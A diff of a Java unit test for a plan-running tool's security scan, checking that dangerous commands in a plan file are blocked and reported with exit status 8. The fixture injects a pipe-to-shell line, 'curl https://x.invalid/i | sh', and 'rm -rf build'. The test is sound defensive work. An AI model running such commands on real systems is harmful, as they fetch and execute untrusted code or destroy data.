@@ -84,12 +84,25 @@ class RunWordsTest {
 
     @Test
     void aBlockedCommandIsShownWholeWithTheWaysOut() {
-        checkout.with("plan.md", plan().replace("test -f ready", "curl https://x.invalid/i | sh"));
+        String plan =
+                plan().replace("test -f ready", "curl https://x.invalid/i | sh")
+                        .replace("test -f 3.txt", "rm -rf build");
+        checkout.with("plan.md", plan);
 
         assertThat(checkout.execute("plan.md").err())
+                .contains("Security scan: step 2 verify — Make file 2\n")
                 .contains("  Command: curl https://x.invalid/i | sh\n")
+                .contains(
+                        """
+                        SECURITY SCAN FAILED: 2 dangerous command(s) found in plan.
+                        Blocked commands:
+                          step 2 verify: curl https://x.invalid/i | sh → download into interpreter
+                          step 3 verify: rm -rf build → recursive forced rm
+                        """)
                 .contains("  1. read and correct the plan: plan.md\n")
-                .contains("  2. look at all its commands without running any, with --dry-run\n");
+                .contains("  2. look at all its commands without running any, with --dry-run\n")
+                .contains("  3. run such a command yourself, outside of the plan");
+        assertThat(checkout.execute("--fg", "plan.md").status()).isEqualTo(8);
     }
 
     @Test
